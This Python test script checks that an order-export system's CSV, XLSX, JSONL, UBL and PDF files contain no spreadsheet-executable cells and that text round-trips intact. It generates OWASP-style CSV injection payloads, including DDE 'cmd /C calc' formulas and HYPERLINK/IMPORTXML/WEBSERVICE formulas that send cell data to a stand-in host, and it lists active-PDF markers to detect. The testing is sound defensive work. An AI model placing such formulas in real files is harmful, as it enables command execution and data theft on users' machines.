"""`bin/prove formulas`: no cell of any file of orders is run by a spreadsheet, and each text reads back as it was stored."""

import argparse
import csv
import io
import json
import re
import zipfile
from collections import Counter
from collections.abc import Callable, Iterable, Iterator, Sequence
from functools import partial
from itertools import product
from pathlib import Path
from typing import Any

import openpyxl
from defusedxml import ElementTree

from tests.house import make_draft, make_house
from tests.proofs.running import ENGINES, Ground, open_ground
from tocsin.core.money import MICRO
from tocsin.desk import open_desk
from tocsin.orders.download_file import content_of
from tocsin.orders.download_rows import COLUMNS
from tocsin.orders.draft import Line, Order, Party
from tocsin.orders.format import NUMBER_COLUMNS, Content, every_format, find_format, write_file
from tocsin.orders.importer import ImportOptions, Source, parse_source
from tocsin.orders.intake import take_in
from tocsin.orders.screen import Filter
from tocsin.orders.sheet_cells import clean_text, unwrap_cell
from tocsin.settings import Settings

PAYLOADS = 520
# Source: OWASP, CSV Injection (= + - @, tab, carriage return, and their full-width forms); `'` hides a formula too.
_BEGINS = (
    "=",
    "+",
    "-",
    "@",
    "＝",
    "＋",
    "－",
    "＠",
    "\t=",
    "\r=",
    "\n=",
    " =",
    "\u3000＝",
    "\u00a0=",
    "'=",
    '"=',
    ";=",
    "==",
    '="',
)
_BODIES = (
    "1+1", "SUM(A1:A9)", "cmd|' /C calc'!A0", 'HYPERLINK("http://e.invalid?x="&A1,"x")', "2+3+cmd|' /C calc'!D2", "SUM(1+1)*cmd|' /C calc'!A0",
    'IMPORTXML(CONCAT("http://e.invalid/",A1),"//a")', 'DDE("cmd";"/C calc";"x")', 'WEBSERVICE("http://e.invalid")', "1e5", "A1", "1,2",
    '1";=1+1;"', "1\r\n=1+1", "1\t=1+1", "8613800138000", "张三", "'x", "_x003D_1", "<f>1+1</f>", "]]>&lt;", "#set page()", "１＋１", "0.5", "-1", "", "$(x)", "{=1}",
)  # fmt: skip
_LIVE = re.compile(r"[\s\ufeff]*[=+\-@＝＋－＠]|[\t\r\n]")
_PLAIN = re.compile(r"-\d+(\.\d+)?")
_ACTIVE_PDF = (b"/JavaScript", b"/OpenAction", b"/Launch", b"/EmbeddedFile", b"/SubmitForm")
Found = Counter[str]


def main(given: list[str]) -> dict[str, Any]:
    """Write every payload in every field to a file of every format, on each engine; and with the guard removed."""
    asked = argparse.ArgumentParser(prog="bin/prove formulas")
    asked.add_argument("--engine", choices=ENGINES, action="append")
    asked.add_argument("--payloads", type=int, default=PAYLOADS)
    wanted = asked.parse_args(given)
    payloads = make_payloads(wanted.payloads)
    with open_ground() as ground:
        found = {engine: look(ground, engine, payloads=payloads) for engine in wanted.engine or list(ENGINES)}
    planted = planted_faults(payloads)
    worst = {
        name: sum(one[name] for one in found.values())
        for name in ("live_formulas", "round_trip_wrong", "missing")
    }
    seen = all(planted.values())
    return {
        "payloads": len(payloads), **worst, "planted_fault_found": seen, "planted": planted, "engines": found,
        "holds": seen and not any(worst.values()) and all(one["cells"] > len(payloads) * 20 for one in found.values()),
    }  # fmt: skip


def make_payloads(count: int) -> list[str]:
    """Return so many texts that a spreadsheet might run: each beginning with each body."""
    made = [begin + body for body, begin in product(_BODIES, _BEGINS)]
    return list(dict.fromkeys(made))[:count]


def look(ground: Ground, engine: str, *, payloads: list[str]) -> dict[str, Any]:
    """Store each payload in every field of an order; write all in each format; return what was found."""
    place = ground.make_desk(engine)
    desk = open_desk(Settings(data_dir=str(Path(place.folder) / "data"), database_url=place.database_url))
    try:
        house = make_house(desk.db)
        for number, text in enumerate(payloads):
            fill = partial(take_in, actor=house.actor(), draft=_draft(clean_text(text), number))
            desk.db.write(house.merchant_id, fill)
        found, formats = Counter[str](), dict[str, dict[str, int]]()
        for name in every_format():
            with desk.db.snapshot(house.merchant_id) as tx:
                content = content_of(tx, wanted=Filter(), real=True, columns=COLUMNS)
                one = check(name, content, len(payloads))
            formats[name] = dict(one)
            found += one
    finally:
        desk.close()
    return {name: found[name] for name in ("live_formulas", "round_trip_wrong", "missing", "cells")} | {
        "formats": formats
    }


def check(name: str, content: Content, count: int) -> Found:
    """Write a file and read it as a stranger would; return its cells, the live ones and those that came back changed."""
    rows, orders, out = list(content.rows()), list(content.orders()), io.BytesIO()
    write_file(find_format(name), Content(content.columns, lambda: rows, lambda: orders), out)
    found = Found(missing=count - len(orders))
    for live, right in _READERS[name](out.getvalue(), rows, orders):
        found += Found(cells=1, live_formulas=int(live), round_trip_wrong=int(not right))
    return found


def planted_faults(payloads: Sequence[str]) -> dict[str, bool]:
    """Tell of each guard that was removed whether it is seen: plain CSV, a workbook of formulas, texts that were changed."""
    rows = [(text, text) for text in payloads]
    plain = io.StringIO(newline="")
    csv.writer(plain, quoting=csv.QUOTE_ALL).writerows([("a", "b"), *rows])
    book = openpyxl.Workbook()
    for n, (text, _) in enumerate(rows, 1):
        book.worksheets[0].cell(n + 1, 1, re.sub(r"[\x00-\x1f]", "", text))
    kept = io.BytesIO()
    book.save(kept)
    unguarded = list(_read_csv(plain.getvalue().encode(), rows, []))
    cut = list(_read_csv(b"a,b\n" + b"x,y\n" * len(rows), rows, []))
    formulas = [cell.data_type == "f" for row in _sheet(kept.getvalue()) for cell in row]
    return {
        "csv_unguarded": any(live for live, _ in unguarded), "xlsx_formulas": any(formulas),
        "text_changed": not any(right for _, right in cut),
    }  # fmt: skip


def _draft(text: str, number: int) -> Any:
    line = Line(
        line_id=f"{text}1",
        title=text or "x",
        sku=text,
        spec=text,
        unit=text,
        quantity_micro=MICRO,
        unit_price_micro=MICRO,
    )
    to = Party(
        name=text, phone=text, province=text, city=text, district=text, address=text, postcode=text, buyer_note=text,
    )  # fmt: skip
    return make_draft(
        channel="test", external_id=f"{text}{number}", campaign=text, merchant_note=text, carrier=text, waybill=text,
        receiver=to, lines=(line,),
    )  # fmt: skip


def _read_csv(data: bytes, rows: list[tuple[str, ...]], _: list[Order]) -> Iterator[tuple[bool, bool]]:
    back = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""), strict=True))[1:]
    for row, cells in zip(rows, back, strict=True):
        for text, cell in zip(row, cells, strict=True):
            live = bool(_LIVE.match(cell)) and not _PLAIN.fullmatch(cell)
            yield live, unwrap_cell(cell) == text


def _read_xlsx(data: bytes, rows: list[tuple[str, ...]], _: list[Order]) -> Iterator[tuple[bool, bool]]:
    for row, cells in zip(rows, _sheet(data), strict=True):
        for column, text, cell in zip(COLUMNS, row, cells, strict=True):
            value = cell.value
            if column in NUMBER_COLUMNS and isinstance(value, int | float):
                right = f"{value:f}".rstrip("0").rstrip(".") == (
                    text.rstrip("0").rstrip(".") if "." in text else text
                )
            else:
                right = re.sub(r"_x005F_(x[0-9A-Fa-f]{4}_)", r"_\1", value or "") == text
            yield cell.data_type == "f", right


def _read_jsonl(data: bytes, _: list[tuple[str, ...]], orders: list[Order]) -> Iterator[tuple[bool, bool]]:
    parsed = parse_source(Source("o.jsonl", "", data), ImportOptions()).orders
    for order, back, line in zip(orders, parsed, data.splitlines(), strict=True):
        known = json.loads(line)
        for name in ("external_id", "campaign", "merchant_note", "carrier", "waybill", "receiver", "lines"):
            yield (
                not isinstance(known.get(name, ""), str | list | dict),
                getattr(order, name) == getattr(back.draft, name),
            )


def _read_ubl(data: bytes, _: list[tuple[str, ...]], orders: list[Order]) -> Iterator[tuple[bool, bool]]:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        for order, name in zip(orders, archive.namelist(), strict=True):
            texts = {one.text or "" for one in ElementTree.fromstring(archive.read(name)).iter()} | {""}
            to, line = order.receiver, order.lines[0]
            wanted = (
                order.external_id, order.campaign, order.carrier, order.waybill, to.name, to.phone, to.province, to.city,
                to.district, to.address, to.postcode, to.buyer_note, line.line_id, line.sku, line.title, line.spec, line.unit,
            )  # fmt: skip
            for text in wanted:
                yield False, text in texts


def _read_pdf(data: bytes, _: list[tuple[str, ...]], orders: list[Order]) -> Iterator[tuple[bool, bool]]:
    yield (
        any(mark in data for mark in _ACTIVE_PDF),
        data.startswith(b"%PDF-") and len(data) > 50 * len(orders),
    )


def _sheet(data: bytes) -> Iterable[Any]:
    return openpyxl.load_workbook(io.BytesIO(data)).worksheets[0].iter_rows(min_row=2)


_READERS: dict[str, Callable[[bytes, list[tuple[str, ...]], list[Order]], Iterator[tuple[bool, bool]]]] = {
    "csv": _read_csv, "xlsx": _read_xlsx, "jsonl": _read_jsonl, "ubl": _read_ubl, "pdf": _read_pdf,
}  # fmt: skip
